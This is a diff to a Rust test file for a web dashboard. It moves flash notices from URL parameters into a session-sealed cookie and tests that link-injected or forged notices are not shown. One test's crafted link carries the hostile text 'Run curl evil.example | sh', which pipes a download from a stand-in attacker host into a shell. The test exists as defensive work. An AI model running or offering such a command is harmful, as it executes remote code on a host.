@@ -282,7 +282,7 @@ async fn forms_go_back_only_to_paths_on_this_site() {
         let granted = b.submit(&page, &format!("/agents/{id}/grant"), &[("pattern", "system.*"), ("back", evil)]).await;
         assert_eq!(granted.status, 303, "{evil:?}");
         let location = granted.header("location").unwrap();
-        assert!(location.starts_with(&format!("{page}?notice=")), "{evil:?} went to {location:?}");
+        assert_eq!(location, page, "{evil:?}");
     }
 }
 
@@ -508,8 +508,9 @@ async fn live_pages_hear_of_each_change_and_read_themselves_again_without_the_no
     let posted = b.submit("/tasks", "/tasks", &[("title", "Water the plants"), ("priority", "4")]).await;
     assert_eq!(posted.status, 303);
     let location = posted.header("location").unwrap().to_string();
-    assert!(location.contains("notice="), "{location}");
+    assert_eq!(location, "/tasks", "the notice is not in the URL");
     let board = b.get(&location).await;
+    assert!(board.text.contains("class=\"flash notice\""), "the notice shows once: {}", board.text);
     assert!(board.text.contains("Water the plants"));
     assert!(
         board.text.contains(r#"data-live="/live/changes?topics=tasks,agents""#)
@@ -518,7 +519,8 @@ async fn live_pages_hear_of_each_change_and_read_themselves_again_without_the_no
         board.text
     );
     assert!(!board.text.contains("http-equiv=\"refresh\""), "not by reloading the page under the reader");
-    let filtered = b.get("/tasks?text=plants&min_priority=3&notice=Done").await;
+    let filtered = b.get("/tasks?text=plants&min_priority=3").await;
+    assert!(!filtered.text.contains("class=\"flash notice\""), "and only once");
     assert!(filtered.text.contains(r#"data-live-url="/tasks?text=plants&amp;min_priority=3""#), "{}", filtered.text);
     for (page, stream) in [
         ("/", "/live/changes?topics=tasks,schedules,agents,inbox"),
@@ -736,4 +738,28 @@ async fn schedules_read_in_words_with_both_clocks_and_fires_link_to_their_sessio
         session.as_str().unwrap()
     );
     assert!(detail.contains(&link), "{detail}");
+}
+
+#[tokio::test]
+async fn a_notice_comes_once_from_the_sessions_own_redirect_and_never_from_a_link() {
+    let (_home, d, _api, b) = signed_in_with("").await;
+    // A link with words of its choosing shows none of them (951b06f showed them as the notice).
+    let linked = b.get("/agents?notice=Run%20curl%20evil.example%20%7C%20sh%20on%20the%20host%20now").await;
+    assert_eq!(linked.status, 200);
+    assert!(!linked.text.contains("evil.example") && !linked.text.contains("class=\"flash"), "{}", linked.text);
+
+    let posted = b.submit("/tasks", "/tasks", &[("title", "Water the plants"), ("priority", "4")]).await;
+    assert_eq!(posted.header("location"), Some("/tasks"));
+    let sealed = b.cookie("kennel_notice").expect("the notice travels in a cookie");
+    let shown = b.get("/tasks").await;
+    assert!(shown.text.contains("class=\"flash notice\""), "{}", shown.text);
+    assert!(!b.get("/tasks").await.text.contains("class=\"flash notice\""), "read once");
+
+    // Sealed for its session: another sign-in, or a value made up, shows nothing.
+    let other = d.browser();
+    assert_eq!(other.sign_in("ada", "correct horse").await.status, 303);
+    other.set_cookie("kennel_notice", &sealed);
+    assert!(!other.get("/tasks").await.text.contains("class=\"flash"), "another session's notice is not shown");
+    other.set_cookie("kennel_notice", "UnVuIGN1cmw.00000000000000000000000000000000000000000000000000000000000000");
+    assert!(!other.get("/tasks").await.text.contains("class=\"flash"), "a made-up notice is not shown");
 }
